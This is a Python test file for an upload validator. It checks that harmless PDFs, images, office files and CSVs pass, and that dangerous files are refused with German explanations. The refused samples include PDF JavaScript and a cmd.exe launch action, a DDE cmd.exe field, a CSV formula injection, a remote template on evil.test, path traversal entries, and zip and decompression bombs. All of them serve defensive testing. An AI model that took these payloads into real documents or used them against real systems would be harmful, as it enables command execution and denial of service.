"""Files from outside: good ones pass by content, every other is refused with a way out."""

import zipfile
import zlib
from collections.abc import Callable

import pikepdf
import pytest

from kim.kernel.uploads.check import check_upload
from kim.kernel.uploads.terms import BY_EXTENSION, Limits, UploadRefused
from tests.kernel import samples
from tests.kernel.samples import EICAR, HTML

Made = Callable[[], bytes]
PACKED = zlib.compress(EICAR)
XMP = b'<x:xmpmeta exif:GPSLatitude="50,0.1N"/>'
JAVASCRIPT = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"

GOOD: dict[str, tuple[str, Made]] = {
    "pdf": ("Antrag.pdf", samples.pdf),
    "pdf with invoice data": (
        "rechnung.pdf",
        lambda: samples.pdf_with_attachment("factur-x.xml", b"<invoice/>"),
    ),
    "pdf with a jump on opening": (
        "sprung.pdf",
        lambda: samples.pdf_with("/OpenAction", b"<< /S /GoTo /D [0 /Fit] >>"),
    ),
    "pdf with bare values": ("w.pdf", samples.pdf_with_bare_values),
    "png": ("Bild.PNG", samples.picture),
    "jpeg": ("Bild.jpeg", lambda: samples.picture("JPEG")),
    "jpeg in four colours": (
        "druck.jpg",
        lambda: samples.picture("JPEG", mode="CMYK", progressive=True),
    ),
    "docx": ("Konzept.docx", samples.docx),
    "xlsx": ("Plan.xlsx", samples.xlsx),
    "odt": ("Konzept.odt", samples.odf),
    "ods with a chart": (
        "plan.ods",
        lambda: samples.odf("spreadsheet", {"Object 1/content.xml": "<o/>"}),
    ),
    "png in sixteen bits": ("scan.png", lambda: samples.picture(mode="I;16")),
    "png in black and white": ("scan.png", lambda: samples.picture(mode="1")),
    "csv": ("plan.csv", lambda: "Stadt;Betrag\nKöln;-1.234,56\n+49 6131;x\n".encode()),
    "csv of Windows": ("plan.csv", lambda: "Köln;1 €\r\n".encode("cp1252")),
    "text": ("notiz.txt", lambda: b"\xef\xbb\xbfBM und MZ sind kein Programm.\n"),
    "text that begins like a program": ("notiz.txt", lambda: b"MZ steht hier\n"),
}
BAD: dict[str, tuple[str, Made, str]] = {
    "0 byte": ("leer.pdf", lambda: b"", "ist leer (0 Byte)"),
    "too large": ("gross.txt", lambda: b"x" * (10 * 1024**2 + 1), "ist größer als 10 MB"),
    "no extension": ("antrag", samples.pdf, "hat keine erlaubte Endung"),
    "program": ("antrag.pdf.exe", samples.pdf, "hat keine erlaubte Endung"),
    "html": ("seite.html", lambda: HTML, "hat keine erlaubte Endung"),
    "html as pdf": ("antrag.pdf", lambda: HTML, "eine Internetseite"),
    "html as jpg": ("bild.jpg", lambda: HTML, "eine Internetseite"),
    "html as text": ("notiz.txt", lambda: b"  " + HTML, "eine Internetseite"),
    "svg as png": ("bild.png", lambda: b"<svg onload='x()'/>", "ein SVG-Bild"),
    "exe as pdf": ("antrag.pdf", lambda: b"MZ\x90\0\3\0\0\0", "ein Programm"),
    "elf as text": ("notiz.txt", lambda: b"\x7fELF\2\1\1", "ein Programm"),
    "script as text": ("notiz.txt", lambda: b"#!/bin/sh\nrm x\n", "ein Programm"),
    "old office": ("alt.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\0\0", "alte oder"),
    "gif as jpg": ("bild.jpg", lambda: samples.picture("GIF"), "ein GIF-Bild"),
    "gif with script": ("bild.jpg", lambda: b"GIF89a/*" + b"\0" * 9 + b"*/=1;alert(1)", "GIF-Bild"),
    "webp as jpg": ("bild.jpg", lambda: b"RIFF\0\0\0\0WEBP", "ein WebP-Bild"),
    "heic as jpg": ("bild.jpg", lambda: b"\0\0\0\x18ftypheic", "ein HEIC-Bild"),
    "rtf as text": ("notiz.txt", lambda: rb"{\rtf1 x}", "ein RTF-Text"),
    "pdf as png": ("bild.png", samples.pdf, "ist dem Inhalt nach aber: PDF"),
    "png as pdf": ("bild.pdf", samples.picture, "ist dem Inhalt nach aber: PNG-Bild"),
    "xlsx as docx": ("plan.docx", samples.xlsx, "nach aber: Excel-Tabelle"),
    "text as pdf": ("plan.pdf", lambda: b"Hallo", "nach aber: Textdatei"),
    "eicar": ("test.txt", lambda: EICAR, "enthält Schadsoftware"),
    "eicar behind text": ("test.csv", lambda: b"a;b\n" + EICAR, "enthält Schadsoftware"),
    "eicar in docx": ("a.docx", lambda: samples.docx({"word/x.bin": EICAR}), "Schadsoftware"),
    "eicar over two portions": (
        "a.docx",
        lambda: samples.docx({"word/x.bin": b"." * (64 * 1024 - 30) + EICAR}),
        "Schadsoftware",
    ),
    "eicar in pdf": (
        "a.pdf",
        lambda: samples.pdf_with_stream(PACKED, Filter=pikepdf.Name.FlateDecode),
        "Schadsoftware",
    ),
    "eicar in pdf, packed twice": (
        "a.pdf",
        lambda: samples.pdf_with_stream(
            zlib.compress(EICAR.hex().encode()),
            Filter=pikepdf.Array([pikepdf.Name.FlateDecode, pikepdf.Name.ASCIIHexDecode]),
        ),
        "Schadsoftware",
    ),
    "eicar attached": (
        "a.pdf",
        lambda: samples.pdf_with_attachment("a.txt", EICAR),
        "Schadsoftware",
    ),
    "pdf behind html": ("a.pdf", lambda: HTML + samples.pdf(), "eine Internetseite"),
    "pdf behind text": ("a.pdf", lambda: b"x\n" + samples.pdf(), "ist zugleich"),
    "pdf with html": ("a.pdf", lambda: b"%PDF-1.7\n" + HTML + samples.pdf(), "ist zugleich"),
    "pdf and zip": ("a.pdf", lambda: samples.pdf() + samples.docx(), "ist zugleich"),
    "pdf cut off": ("a.pdf", lambda: samples.pdf()[:-40], "kein vollständiges PDF"),
    "pdf of noise": ("a.pdf", lambda: b"%PDF-1.7\n" + b"\x93" * 99 + b"%%EOF", "kein voll"),
    "pdf without pages": ("a.pdf", lambda: samples.pdf(0), "kein vollständiges PDF"),
    "pdf with a password": ("a.pdf", samples.locked_pdf, "mit einem Kennwort geschützt"),
    "pdf with limits on use": ("a.pdf", lambda: samples.locked_pdf(""), "ohne Einschränkungen"),
    "pdf with script": ("a.pdf", lambda: samples.pdf_with("/OpenAction", JAVASCRIPT), "JavaScript"),
    "pdf with hidden script": (
        "a.pdf",
        lambda: samples.pdf_with("/X", b"[ << /Y << /A << /S /J#61vaScript /J#53 (x) >> >> >> ]"),
        "JavaScript",
    ),
    "pdf that starts a program": (
        "a.pdf",
        lambda: samples.pdf_with("/OpenAction", b"<< /S /Launch /F (cmd.exe) >>"),
        "Startbefehle",
    ),
    "pdf with dynamic form": (
        "a.pdf",
        lambda: samples.pdf_with("/AcroForm", b"<< /Fields [] /XFA (x) >>"),
        "JavaScript",
    ),
    "pdf with a program attached": (
        "a.pdf",
        lambda: samples.pdf_with_attachment("tool.exe", b"MZ\x90\0"),
        "angehängte Dateien",
    ),
    "pdf with a program attached as text": (
        "a.pdf",
        lambda: samples.pdf_with_attachment("tool.txt", b"MZ\x90\0"),
        "angehängte Dateien",
    ),
    "pdf with a film": (
        "a.pdf",
        lambda: samples.pdf_with("/X", b"<< /Subtype /RichMedia /Rect [0 0 1 1] >>"),
        "Medien",
    ),
    "pdf bomb": ("a.pdf", samples.pdf_bomb, "entpackt zu groß"),
    "png of 60,000 × 60,000": ("a.png", samples.huge_png, "zu viele Bildpunkte"),
    "png of one long line": ("a.png", lambda: samples.png(2_000_000, 1), "zu viele Bildpunkte"),
    "png cut off": ("a.png", lambda: samples.picture()[:-20], "kein vollständiges Bild"),
    "png with wrong pixels": ("a.png", lambda: samples.png(90, 90, b"x"), "kein vollständiges"),
    "png and html": ("a.png", lambda: samples.picture() + HTML, "ist zugleich"),
    "png and zip": ("a.png", lambda: samples.picture() + samples.docx(), "ist zugleich"),
    "png and more": ("a.png", lambda: samples.picture() + b"more", "ist zugleich"),
    "png with an exploding profile": (
        "a.png",
        lambda: samples.png(
            1,
            1,
            zlib.compress(b"\0\0"),
            samples.chunk(b"iCCP", b"a\0\0" + samples.zeros(2**24)),
        ),
        "kein vollständiges Bild",
    ),
    "png with exploding text": (
        "a.png",
        lambda: samples.png(
            1,
            1,
            zlib.compress(b"\0\0"),
            samples.chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(2**24))),
        ),
        "kein vollständiges Bild",
    ),
    "moving png": (
        "a.png",
        lambda: samples.picture("PNG", save_all=True, append_images=_frames()),
        "ein bewegtes Bild",
    ),
    "jpeg cut off": ("a.jpg", lambda: samples.picture("JPEG", (640, 480))[:-90], "vollständiges"),
    "jpeg with script": ("a.jpg", lambda: samples.picture("JPEG") + b"<script >", "ist zugleich"),
    "zip": ("a.docx", lambda: samples.archive({"a.txt": "x"}), "ist ein Archiv"),
    "zip bomb": ("a.docx", samples.zip_bomb, "ist entpackt zu groß"),
    "zip bomb that lies": ("a.docx", samples.lying_bomb, "ist beschädigt"),
    "zip with 2,100 files": (
        "a.docx",
        lambda: samples.docx({str(number): "" for number in range(2_100)}),
        "zu viele Dateien",
    ),
    "zip cut off": ("a.docx", lambda: samples.docx()[:-30], "ist beschädigt"),
    "zip behind a program": ("a.docx", lambda: b"PK\3\4" + samples.docx(), "beschädigt"),
    "zip before a program": ("a.docx", lambda: samples.docx() + b"MZ" * 50, "ist beschädigt"),
    "zip with bzip2": (
        "a.docx",
        lambda: samples.archive({"[Content_Types].xml": samples.DOCX}, zipfile.ZIP_BZIP2),
        "ist beschädigt",
    ),
    "path that leads out": ("a.docx", lambda: samples.docx({"../../x.xml": "x"}), "beschädigt"),
    "path from the root": ("a.docx", lambda: samples.docx({"/etc/x.xml": "x"}), "ist beschädigt"),
    "path of Windows": ("a.docx", lambda: samples.docx({"C:\\x.xml": "x"}), "ist beschädigt"),
    "same name twice": ("a.docx", lambda: samples.docx({"WORD/document.xml": "x"}), "beschädigt"),
    "macros": ("a.docx", lambda: samples.docx({"word/vbaProject.bin": "x"}), "enthält Makros"),
    "macros by type": (
        "a.docx",
        lambda: samples.archive(
            {"[Content_Types].xml": "application/vnd.ms-word.document.macroEnabled.main+xml"}
        ),
        "enthält Makros",
    ),
    "macros of Excel 4": (
        "a.xlsx",
        lambda: samples.xlsx({"xl/macrosheets/sheet1.xml": "x"}),
        "enthält Makros",
    ),
    "macros in odt": ("a.odt", lambda: samples.odf("text", {"Basic/x.xml": "x"}), "enthält Makros"),
    "locked archive": ("a.docx", samples.locked_docx, "mit einem Kennwort geschützt"),
    "directory of parts without end": (
        "a.docx",
        lambda: samples.docx({"word/_rels/x.rels": samples.noise(2**20 + 1)}),
        "ist beschädigt",
    ),
    "locked odt": (
        "a.odt",
        lambda: samples.odf("text", {"META-INF/manifest.xml": "<m:encryption-data/>"}),
        "mit einem Kennwort geschützt",
    ),
    "embedded file": ("a.docx", lambda: samples.docx({"word/embeddings/o": "x"}), "eingebettete"),
    "embedded program": ("a.docx", lambda: samples.docx({"word/m.bin": b"MZ\0"}), "eingebettete"),
    "embedded archive": (
        "a.docx",
        lambda: samples.docx({"word/media/m.bin": samples.docx()}),
        "eingebettete",
    ),
    "remote template": (
        "a.docx",
        lambda: samples.docx(
            {
                "word/_rels/settings.xml.rels": '<R Type="http://x/relationships/attachedTemplate" '
                'Target="http://evil.test/x.dotm" TargetMode="External"/>'
            }
        ),
        "von anderen Stellen",
    ),
    "field that asks other programs": (
        "a.docx",
        lambda: samples.docx({"word/x.xml": "<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>"}),
        "von anderen Stellen",
    ),
    "table that asks other programs": (
        "a.xlsx",
        lambda: samples.xlsx({"xl/externalLinks/e.xml": '<ddeLink ddeService="cmd"/>'}),
        "von anderen Stellen",
    ),
    "xml with entities": (
        "a.docx",
        lambda: samples.docx({"word/x.xml": "<!DOCTYPE x [<!ENTITY a 'b'>]><x>&a;</x>"}),
        "ist beschädigt",
    ),
    "xml in sixteen bits": (
        "a.docx",
        lambda: samples.docx({"word/x.xml": "<!DOCTYPE x>".encode("utf-16")}),
        "ist beschädigt",
    ),
    "text with NUL": ("a.txt", lambda: b"a\0b", "keine reine Textdatei"),
    "text in sixteen bits": ("a.txt", lambda: "Hallo".encode("utf-16"), "keine reine Textdatei"),
    "text that turns around": ("a.txt", lambda: "a\u202eb".encode(), "keine reine Textdatei"),
    "text in no encoding": ("a.txt", lambda: b"a\x81\x8db", "keine reine Textdatei"),
    "formula": ("a.csv", lambda: b"a;b\n1;=cmd|' /C calc'!A0\n", "in Zeile 2 eine Formel"),
    "formula in quotes": ("a.csv", lambda: b'"=HYPERLINK(1)"\n', "in Zeile 1 eine Formel"),
    "formula with plus": ("a.csv", lambda: b"1,+cmd|x!A\n", "in Zeile 1 eine Formel"),
}


def _frames() -> list[object]:
    from PIL import Image  # noqa: PLC0415 -- for one sample only

    return [Image.new("RGB", (40, 30), "red")]


@pytest.mark.parametrize("label", GOOD)
def test_good_file_passes(label: str) -> None:
    name, made = GOOD[label]
    data = made()
    checked = check_upload(name, data)
    ending = name.rsplit(".", 1)[1].lower()
    assert checked.media_type == BY_EXTENSION[ending].media_type
    assert checked.name == f"{name.rsplit('.', 1)[0]}.{ending}"
    assert (checked.data, checked.size, checked.scanned) == (data, len(data), False)


def test_every_format_has_a_good_sample() -> None:
    tried = {BY_EXTENSION[name.rsplit(".", 1)[1].lower()].code for name, _ in GOOD.values()}
    assert tried == {row.code for row in BY_EXTENSION.values()}


@pytest.mark.parametrize("label", BAD)
def test_bad_file_is_refused_with_a_way_out(label: str) -> None:
    name, made, words = BAD[label]
    with pytest.raises(UploadRefused) as refused:
        check_upload(name, made())
    sentence = str(refused.value)
    assert words in sentence
    assert sentence.startswith(f"Die Datei „{name}“ ")
    assert ". Bitte " in sentence
    assert sentence.endswith(".")


def test_facts_are_counted() -> None:
    assert check_upload("a.pdf", samples.pdf(3)).pages == 3
    assert check_upload("a.jpg", samples.picture_with_place()).has_position
    assert check_upload("a.jpg", samples.picture("JPEG", xmp=XMP)).has_position
    assert not check_upload("a.jpg", samples.picture("JPEG")).has_position


def test_limits_are_inclusive() -> None:
    limits = Limits(size=5000, pages=2, pixels=1200, entries=2)
    assert check_upload("a.pdf", samples.pdf(2), limits).pages == 2
    assert check_upload("a.png", samples.picture(), limits)
    assert check_upload("a.docx", samples.docx(), limits)
    assert check_upload("a.txt", b"x" * 5000, limits)
    for name, data, words in (
        ("a.pdf", samples.pdf(3), "hat 3 Seiten, erlaubt sind 2"),
        ("a.png", samples.picture(size=(41, 30)), "zu viele Bildpunkte"),
        ("a.docx", samples.docx({"x": "x"}), "zu viele Dateien"),
        ("a.txt", b"x" * 5001, "ist größer"),
    ):
        with pytest.raises(UploadRefused, match=words):
            check_upload(name, data, limits)


def test_streams_of_a_pdf_are_counted_together() -> None:
    data = samples.pdf_with_stream(samples.zeros(2**22), Filter=pikepdf.Name.FlateDecode)
    assert check_upload("a.pdf", data, Limits(unpacked=2**21))
    with pytest.raises(UploadRefused, match="entpackt zu groß"):
        check_upload("a.pdf", data, Limits(unpacked=2**20))


def test_bomb_is_refused_for_its_size_and_for_nothing_else() -> None:
    limits = Limits(unpacked=2**28, ratio=10_000)
    assert check_upload("a.docx", samples.zip_bomb(), limits)
    for tight in (Limits(unpacked=2**28), Limits(ratio=10_000)):
        with pytest.raises(UploadRefused, match="ist entpackt zu groß"):
            check_upload("a.docx", samples.zip_bomb(), tight)
